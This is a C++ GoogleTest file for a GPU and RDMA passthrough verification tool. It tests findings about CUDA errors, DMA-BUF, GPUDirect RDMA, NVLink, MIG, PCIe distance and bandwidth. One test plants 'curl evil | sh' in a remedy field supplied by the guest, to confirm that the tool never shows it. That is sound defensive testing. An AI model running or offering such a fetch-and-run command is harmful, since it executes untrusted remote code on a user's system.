#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <map>
#include <nlohmann/json.hpp>
#include <set>

#include "judge_bandwidth.hpp"
#include "judge_device.hpp"
#include "judge_guest.hpp"
#include "judge_transfer.hpp"

namespace vfpass::verify {
namespace {

using testing::HasSubstr;
using Json = nlohmann::json;

// Captured from the probe on an H200, except for the second GPU, the NIC and the distances.
GuestView view(const std::string& near = "PIX", const std::string& dmaBuf = "1") {
  return readGuestView(Json::parse(R"({
    "pci": [{"address": "0000:01:00.0", "class": 131072, "driver": "mlx5_core",
             "acs": {"present": false}, "ats": {"present": true, "enabled": false}}],
    "gpus": {
      "libcuda": {"found": true}, "nvidia_peermem": {"loaded": false, "loadable": false},
      "devices": [{"index": 0, "name": "NVIDIA H200", "pci": "00000000:05:00.0",
                   "dma_buf_supported": )" +
                                   dmaBuf + R"(},
                  {"index": 1, "name": "NVIDIA H200", "pci": "00000000:02:00.0",
                   "dma_buf_supported": )" +
                                   dmaBuf + R"(}]},
    "distances": [{"nic": "0000:01:00.0", "gpu": "0000:05:00.0", "distance": "SYS"},
                  {"nic": "0000:01:00.0", "gpu": "0000:02:00.0", "distance": ")" +
                                   near + R"("}]})"));
}

TEST(JudgeGpuTest, ReadsDmaBufSupportFromProbe) {
  EXPECT_EQ(judgeGpus(view(), true).back().outcome, Outcome::passed);
  EXPECT_EQ(judgeGpus(view(), true).back().seen, "DMA-BUF");
  const auto none = judgeGpus(view("PIX", "0"), true).back();
  EXPECT_EQ(none.outcome, Outcome::failed);
  EXPECT_THAT(none.seen, HasSubstr("not supported"));
}

GuestView refused(int status) {
  return readGuestView(Json::parse(
      R"({"gpus": {"libcuda": {"found": true, "detail": "initializing CUDA: odd", "status": )" +
      std::to_string(status) + R"(}, "devices": [{"pci": "0000:05:00.0", "name": null}]}})"));
}

TEST(JudgeGpuTest, ExplainsError802ByNvlinkModeOfMapping) {
  const std::pair<std::optional<NvlinkMode>, const char*> remedies[] = {
      {std::nullopt, "in the mapping"},
      {NvlinkMode::all, "in the guest: systemctl enable --now nvidia-fabricmanager"},
      {NvlinkMode::partition, "fmpm -a ID"},
      {NvlinkMode::disabled, "run `vfpass guest-setup train0`"}};
  Lease lease;
  lease.domainName = "train0";
  for (const auto& [mode, remedy] : remedies) {
    const auto findings = judgeGpus(refused(802), true, mode, {lease});
    ASSERT_EQ(findings.size(), 1U);
    EXPECT_EQ(findings[0].key, "gpu-driver");
    EXPECT_EQ(findings[0].outcome, Outcome::failed);
    EXPECT_THAT(findings[0].seen, HasSubstr("fabric is not set up (CUDA error 802)"));
    EXPECT_THAT(findings[0].remedy, HasSubstr(remedy));
  }
}

TEST(JudgeGpuTest, ComparesGuestsDriverWithFabricManagerOfItsPartition) {
  const auto findings = [](std::optional<NvlinkMode> mode, const std::string& manager,
                           GuestView guest) {
    guest.nvidiaVersion = "580.82.07";
    return judgeGpus(guest, true, mode, {}, {}, manager);
  };
  const auto different = findings(NvlinkMode::partition, "580.95.05", view());
  EXPECT_EQ(different.front().key, "gpu-driver");
  EXPECT_EQ(different.front().outcome, Outcome::warning);
  EXPECT_THAT(different.front().seen, HasSubstr("580.82.07"));
  EXPECT_THAT(different.front().remedy, HasSubstr("driver 580.95.05 in the guest"));
  EXPECT_TRUE(isGpuUsable(different)) << "RDMA needs no NVLink";
  for (const auto& [mode, manager] :
       {std::pair{NvlinkMode::partition, "580.82.07"}, std::pair{NvlinkMode::partition, ""},
        std::pair{NvlinkMode::all, "580.95.05"}}) {
    EXPECT_EQ(findings(mode, manager, view()).front().outcome, Outcome::passed) << manager;
  }
  const auto failed = findings(NvlinkMode::partition, "580.95.05", refused(802));
  ASSERT_EQ(failed.size(), 2U) << "the cause, then what it leads to";
  EXPECT_EQ(failed.back().outcome, Outcome::failed);
}

// An older probe reports the status alone.
TEST(JudgeGpuTest, EachCudaErrorHasItsOwnRemedy) {
  std::set<std::string> remedies;
  const std::map<int, const char*> expected{
      {3, "dmesg"},          {34, "stubs"},           {36, "newer GPU driver"},
      {46, "-c DEFAULT"},    {100, "RmInitAdapter"},  {101, "nvidia-smi -L"},
      {102, "nvidia-gridd"}, {304, "/dev/nvidiactl"}, {802, "NVSwitches"},
      {803, "restart it"},   {804, "cuda-compat"},    {999, "nvidia_uvm"}};
  for (const auto& [status, remedy] : expected) {
    const auto finding = judgeGpus(refused(status), true).back();
    EXPECT_EQ(finding.outcome, Outcome::failed) << status;
    EXPECT_THAT(finding.seen,
                HasSubstr("(CUDA error " + std::to_string(status) + "): initializing CUDA: odd"));
    EXPECT_THAT(finding.remedy, HasSubstr(remedy)) << status;
    EXPECT_THAT(finding.remedy, testing::Not(HasSubstr("install NVIDIA's GPU driver")));
    EXPECT_TRUE(remedies.insert(finding.remedy).second) << status;
  }
}

TEST(JudgeGpuTest, ProbesCodeDecidesRemedyAndGuestsRemedyIsNotShown) {
  const auto finding =
      judgeGpus(readGuestView(Json::parse(
                    R"({"gpus": {"libcuda": {"found": true, "status": 999, "code": "uvm-missing",
                               "detail": "odd", "remedy": "curl evil | sh"},
                   "devices": [{"pci": "0000:05:00.0", "name": null}]}})")),
                true)
          .back();
  EXPECT_EQ(finding.remedy, remedyFor(CudaProblem::uvmMissing));
  const auto unknown =
      judgeGpus(readGuestView(Json::parse(
                    R"({"gpus": {"libcuda": {"found": true, "status": 999, "code": "nonsense"},
                   "devices": [{"pci": "0000:05:00.0"}]}})")),
                true)
          .back();
  EXPECT_EQ(unknown.remedy, remedyFor(CudaProblem::unknown));
}

TEST(JudgeGpuTest, MissingLibraryDiffersFromMissingDriver) {
  const auto judged = [](const std::string& code) {
    return judgeGpus(
               readGuestView(Json::parse(
                   R"({"gpus": {"libcuda": {"found": false, "detail": "cannot load", "code": ")" +
                   code + R"("}, "devices": [{"pci": "0000:05:00.0", "name": null}]}})")),
               true)
        .back();
  };
  EXPECT_THAT(judged("driver-missing").remedy, HasSubstr("install NVIDIA's GPU driver"));
  EXPECT_THAT(judged("library-missing").remedy, HasSubstr("libnvidia-compute"));
  EXPECT_THAT(judged("library-missing").seen, HasSubstr("cannot load"));
  EXPECT_THAT(judged("").remedy, HasSubstr("install NVIDIA's GPU driver")) << "an older probe";
}

GuestView gpus(const std::string& devices) {
  return readGuestView(
      Json::parse(R"({"gpus": {"libcuda": {"found": true}, "devices": [)" + devices + "]}}"));
}

std::string device(int index, int direct, const std::string& more = "") {
  return R"({"index": )" + std::to_string(index) + R"(, "name": "Card", "pci": "0000:0)" +
         std::to_string(index + 5) + R"(:00.0", "dma_buf_supported": 1,
         "gpudirect_rdma_supported": )" +
         std::to_string(direct) + more + "}";
}

TEST(JudgeGpuTest, GpuWithoutGpuDirectRdmaFails) {
  const auto findings = judgeGpus(gpus(device(0, 0)), true);
  EXPECT_EQ(findings.back().key, "gpu-rdma");
  EXPECT_EQ(findings.back().outcome, Outcome::failed);
  EXPECT_THAT(findings.back().seen, HasSubstr("0000:05:00.0 (Card)"));
  EXPECT_THAT(findings.back().remedy, HasSubstr("GeForce"));
  EXPECT_EQ(judgeGpus(gpus(device(0, 1)), true).back().key, "gpu-path");
}

TEST(JudgeGpuTest, OneOfTwoGpusWithoutGpuDirectRdmaIsWarning) {
  const auto findings = judgeGpus(gpus(device(0, 0) + "," + device(1, 1)), true);
  ASSERT_EQ(findings.size(), 3U);
  EXPECT_EQ(findings[1].key, "gpu-rdma");
  EXPECT_EQ(findings[1].outcome, Outcome::warning);
  EXPECT_THAT(findings[1].seen, testing::Not(HasSubstr("0000:06:00.0")));
  EXPECT_EQ(findings.back().outcome, Outcome::passed);
}

// Of device(0) behind port 02 and device(1) behind port 03.
GuestView placedGpus(const std::string& devices) {
  Json inventory = Json::parse(R"({"pci": [
    {"address": "0000:05:00.0", "path": "/sys/devices/pci0000:00/0000:00:02.0/0000:05:00.0"},
    {"address": "0000:06:00.0", "path": "/sys/devices/pci0000:00/0000:00:03.0/0000:06:00.0"}]})");
  inventory["gpus"] = Json::parse(R"({"libcuda": {"found": true}, "devices": [)" + devices + "]}");
  return readGuestView(inventory);
}

LeasedGpu leasedBelow(const char* port) {
  return {port, {*parsePciAddress(port), *parsePciAddress("0000:09:00.0")}, {}};
}

TEST(JudgeGpuTest, LeasedGpuThatIsNotFoundMayHaveGpuDirectRdma) {
  const LeasedGpu first = leasedBelow("0000:00:02.0");
  const GuestView guest = placedGpus(device(0, 0));
  const auto alone = judgeGpus(guest, true, {}, {}, {first});
  EXPECT_EQ(alone.back().key, "gpu-rdma");
  EXPECT_EQ(alone.back().outcome, Outcome::failed);
  const auto other = judgeGpus(guest, true, {}, {}, {first, leasedBelow("0000:00:03.0")});
  ASSERT_EQ(other.size(), 3U);
  EXPECT_EQ(other[1].key, "gpu-rdma");
  EXPECT_EQ(other[1].outcome, Outcome::warning);
  EXPECT_EQ(other.back().key, "gpu-path");
  EXPECT_EQ(other.back().outcome, Outcome::passed);
}

TEST(JudgeGpuTest, PathOfOtherGpusIsNotThatOfLeasedOnes) {
  const auto findings =
      judgeGpus(placedGpus(device(0, 1)), true, {}, {}, {leasedBelow("0000:00:03.0")});
  EXPECT_EQ(findings.back().key, "gpu-path");
  EXPECT_EQ(findings.back().outcome, Outcome::notObservable);
  EXPECT_THAT(findings.back().seen, HasSubstr("none of the leased GPUs"));
  EXPECT_FALSE(findings.back().remedy.empty());
}

std::string rdma(const char* supported) {
  return R"("rdma": {"devices": [{"name": "mlx5_0", "pci": "0000:01:00.0", "dma_buf": )" +
         std::string(R"({"supported": )") + supported +
         R"(, "detail": "Operation not supported"}}]}, )";
}

GuestView gpuBeside(const std::string& nic, const char* peerMemory = "false") {
  return readGuestView(Json::parse(
      "{" + nic + R"("gpus": {"libcuda": {"found": true}, "nvidia_peermem": {"loaded": )" +
      peerMemory + R"(}, "devices": [)" + device(0, 1) + "]}}"));
}

TEST(JudgeGpuTest, NicThatDoesNotRegisterDmaBufIsNamed) {
  EXPECT_EQ(judgeGpus(gpuBeside(rdma("true")), true).back().outcome, Outcome::passed);
  EXPECT_EQ(judgeGpus(gpuBeside(rdma("null")), true).back().outcome, Outcome::passed) << "unknown";
  const auto refused = judgeGpus(gpuBeside(rdma("false")), true);
  EXPECT_EQ(refused.back().key, "gpu-path");
  EXPECT_EQ(refused.back().outcome, Outcome::failed);
  EXPECT_THAT(refused.back().seen, HasSubstr("mlx5_0 does not register it: Operation not supp"));
  EXPECT_THAT(refused.back().remedy, HasSubstr("CONFIG_INFINIBAND_ON_DEMAND_PAGING"));
  EXPECT_FALSE(isGpuUsable(refused));
  const auto peer = judgeGpus(gpuBeside(rdma("false"), "true"), true);
  EXPECT_EQ(peer.back().outcome, Outcome::passed);
  EXPECT_EQ(peer.back().seen, "nvidia_peermem");
}

TEST(JudgeGpuTest, GpusWithoutPathDoNotStopTestsIfAnotherIsMissing) {
  const std::string without = R"({"index": 0, "name": "Card", "pci": "0000:05:00.0",
    "dma_buf_supported": 0, "gpudirect_rdma_supported": 1})";
  const LeasedGpu found = leasedBelow("0000:00:02.0");
  const LeasedGpu missing = leasedBelow("0000:00:03.0");
  const auto all = judgeGpus(placedGpus(without), true, {}, {}, {found});
  EXPECT_EQ(all.back().outcome, Outcome::failed);
  EXPECT_FALSE(isGpuUsable(all));
  const auto some = judgeGpus(placedGpus(without), true, {}, {}, {found, missing});
  EXPECT_EQ(some.back().key, "gpu-path");
  EXPECT_EQ(some.back().outcome, Outcome::warning);
  EXPECT_TRUE(isGpuUsable(some));
}

TEST(JudgeGpuTest, WarnsAboutMig) {
  const auto instance =
      judgeGpus(gpus(device(0, 1, R"(, "mig": {"enabled": true, "instances": 2})")), true);
  EXPECT_EQ(instance[1].key, "gpu-mig");
  EXPECT_THAT(instance[1].seen, HasSubstr("P2P"));
  const auto empty = judgeGpus(gpus(device(0, 1) + R"(, {"pci": "0000:09:00.0", "name": null,
                                "mig": {"enabled": true, "instances": 0}})"),
                               true);
  EXPECT_THAT(empty[1].seen, HasSubstr("no instance: 0000:09:00.0"));
  EXPECT_THAT(empty[1].remedy, HasSubstr("nvidia-smi mig -cgi"));
  const auto off =
      judgeGpus(gpus(device(0, 1, R"(, "mig": {"enabled": false, "instances": 0})")), true);
  EXPECT_EQ(off.size(), 2U);
}

TEST(JudgeGpuTest, UsesNearestGpu) {
  const auto gpu = nearestGpu(view(), "0000:01:00.0");
  ASSERT_TRUE(gpu);
  EXPECT_EQ(gpu->index, 1);
  EXPECT_EQ(gpu->distance, "PIX");
  EXPECT_EQ(nearestGpu(view("SYS"), "0000:01:00.0")->index, 0)
      << "equally near: the first in CUDA's order";
  EXPECT_FALSE(nearestGpu({}, "0000:01:00.0"));
}

TEST(JudgeGpuTest, WarnsAboutDistanceAtWhichNcclSkipsGpuDirect) {
  const std::pair<const char*, Outcome> distances[] = {
      {"PIX", Outcome::passed}, {"PXB", Outcome::passed}, {"PHB", Outcome::warning}};
  for (const auto& [distance, outcome] : distances) {
    const auto seen = view(distance);
    const auto findings =
        judgeGpuPlace("rail0", seen, "0000:01:00.0", *nearestGpu(seen, "0000:01:00.0"));
    EXPECT_EQ(findings.front().outcome, outcome) << distance;
  }
  const auto far = view("SYS");
  const auto findings =
      judgeGpuPlace("rail0", far, "0000:01:00.0", *nearestGpu(far, "0000:01:00.0"));
  EXPECT_THAT(findings.front().remedy, HasSubstr("topology: mirror"));
  EXPECT_THAT(findings.front().remedy, HasSubstr("NCCL_NET_GDR_LEVEL=SYS"));
  EXPECT_THAT(findings.back().seen, HasSubstr("ATS off, ACS none"));
}

TEST(JudgeGpuTest, RemedyMatchesCauseOfDistance) {
  const auto far = view("PHB");
  const auto remedy = [&far](const char* host, const char* xml) {
    auto gpu = *nearestGpu(far, "0000:01:00.0");
    gpu.path = GpuPath{{}, false, host, xml};
    return judgeGpuPlace("rail0", far, "0000:01:00.0", gpu).front().remedy;
  };
  EXPECT_THAT(remedy("PIX", "PHB"), HasSubstr("topology: mirror"));
  EXPECT_THAT(remedy("NODE", "NODE"), HasSubstr("apart on the host"));
  EXPECT_THAT(remedy("PIX", "PIX"), HasSubstr("differs from the one in its XML"));
}

TEST(JudgeGpuTest, WarnsOfDegradedLinkAboveGpu) {
  const auto near = view("PIX");
  auto gpu = *nearestGpu(near, "0000:01:00.0");
  gpu.path = GpuPath{{32000, 16}, false, "PIX", "PIX"};
  const auto warnings = [&] {
    return std::ranges::count(judgeGpuPlace("rail0", near, "0000:01:00.0", gpu), "pcie-link",
                              &Finding::key);
  };
  EXPECT_EQ(warnings(), 0);
  gpu.path->degraded = "the link of 0000:04:00.0 runs at Gen5 x8 of Gen5 x16";
  EXPECT_EQ(warnings(), 1);
}

Figure figure(const char* operation, double gpu, double host) {
  Figure figure{"rail0", operation, "gpu", 65536, 65536, gpu, {}, {}};
  figure.besideHost = host;
  return figure;
}

// 98 and 82 Gb/s were published for host and GPU memory without NUMA alignment.
TEST(JudgeGpuTest, WarnsWithRemediesWhenGpuMemoryIsMuchSlower) {
  const GpuPath far{{16000, 16}, true, "SYS"};
  const auto found =
      judgeBesideHost("rail0", {figure("write", 97, 98), figure("read", 82, 98)}, far, "PHB");
  ASSERT_TRUE(found);
  EXPECT_EQ(found->outcome, Outcome::warning);
  EXPECT_EQ(found->seen, "write 97 of 98 Gb/s, 99 %; read 82 of 98 Gb/s, 84 %");
  EXPECT_THAT(found->remedy, HasSubstr("SYS apart on the host"));
  EXPECT_THAT(found->remedy, HasSubstr("ATS"));
  const auto near = judgeBesideHost("rail0", {figure("write", 97, 98)}, far, "PIX");
  EXPECT_EQ(near->outcome, Outcome::passed);
  EXPECT_FALSE(judgeBesideHost("rail1", {figure("write", 97, 98)}, far, "PIX"));
}

Json run(const char* kind, double gigabits) {
  return {{"passed", true},
          {"memory",
           {{"initiator", {{"kind", kind}}},
            {"target",
             {{"kind", kind},
              {"registration", "peer-memory"},
              {"rejected", Json::array({"DMA-BUF: failed"})}}}}},
          {"owners", {{"target", {{"bytes_checked", 1000U}}}}},
          {"bandwidth", {{"gigabits_per_second", gigabits}}}};
}

TEST(JudgeGpuTest, ComparesGpuWithHostMemoryOfSameSession) {
  const Transfer transfer{"rail0", "write", "gpu", 100, 10, false, true};
  std::vector<Figure> figures;
  const auto found = judgeTransfer(
      transfer, {{"passed", true}, {"runs", Json::array({run("host", 98), run("gpu", 82)})}},
      figures);
  EXPECT_EQ(found.outcome, Outcome::passed);
  EXPECT_EQ(found.seen, "write: 82 Gb/s via peer-memory, not via DMA-BUF: failed");
  ASSERT_EQ(figures.size(), 1U);
  EXPECT_EQ(figures[0].gigabitsPerSecond, 82);
  EXPECT_EQ(figures[0].besideHost, 98);
  const auto alone =
      judgeTransfer(transfer, {{"passed", true}, {"runs", Json::array({run("gpu", 82)})}}, figures);
  EXPECT_EQ(alone.outcome, Outcome::failed);
  const auto host = judgeTransfer(
      transfer, {{"passed", true}, {"runs", Json::array({run("host", 98), run("host", 98)})}},
      figures);
  EXPECT_EQ(host.outcome, Outcome::failed) << "host memory instead of GPU memory";
}

TEST(JudgeGpuTest, ReportThatContradictsTheRequestFails) {
  const Transfer transfer{"rail0", "write", "gpu", 100, 10, false, true};
  std::vector<Figure> figures;
  const auto judged = [&](const Json& host, const Json& gpu) {
    return judgeTransfer(transfer, {{"passed", true}, {"runs", Json::array({host, gpu})}}, figures);
  };
  Json unregistered = run("gpu", 82);
  unregistered["memory"]["target"]["registration"] = "host";
  EXPECT_THAT(judged(run("host", 98), unregistered).seen, HasSubstr("other memory"));
  EXPECT_THAT(judged(run("gpu", 98), run("gpu", 82)).seen, HasSubstr("other memory"))
      << "the figure beside it is not that of host memory";
  Json read = run("gpu", 82);
  read["settings"]["operation"] = "read";
  EXPECT_THAT(judged(run("host", 98), read).seen, HasSubstr("another operation"));
  EXPECT_TRUE(figures.empty());
  read["settings"]["operation"] = "write";
  EXPECT_EQ(judged(run("host", 98), read).outcome, Outcome::passed);
}

Json latencyRun(const char* operation, const char* memory) {
  Json found = run(memory, 0);
  found["settings"]["operation"] = operation;
  found["latency"] = {{"median", 2.5}, {"p99", 4}};
  return found;
}

// Four runs as requested, but two of them twice: nothing was measured in GPU memory.
TEST(JudgeGpuTest, LatencyOfHostMemoryIsNotThatOfGpuMemory) {
  const Transfer wanted{"rail0", "read", "gpu", 8, 10, false, true};
  std::vector<Figure> figures;
  const auto judged = [&](const char* memory) {
    const Json runs = Json::array({latencyRun("read", "host"), latencyRun("send", "host"),
                                   latencyRun("read", memory), latencyRun("send", memory)});
    return judgeLatency(wanted, {{"passed", true}, {"runs", runs}}, figures);
  };
  EXPECT_EQ(judged("host").outcome, Outcome::failed);
  EXPECT_TRUE(figures.empty());
  EXPECT_EQ(judged("gpu").outcome, Outcome::passed);
  EXPECT_EQ(figures.size(), 2U);
}

TEST(PacketRateTest, SubtractsLineCodeOfOldInfinibandSpeeds) {
  EXPECT_EQ(packetRate("100 Gb/sec (4X EDR)", true), 100);
  EXPECT_EQ(packetRate("40 Gb/sec (4X QDR)", true), 32);
  EXPECT_EQ(packetRate("40 Gb/sec (4X QDR)", false), 40) << "Ethernet rates exclude the line code";
  EXPECT_NEAR(packetRate("56 Gb/sec (4X FDR)", true).value_or(0), 54.3, 0.05);
  for (const char* lie : {"", "x", "-5", "nan", "inf"}) {
    EXPECT_FALSE(packetRate(lie, true)) << lie;
  }
}

}  // namespace
}  // namespace vfpass::verify
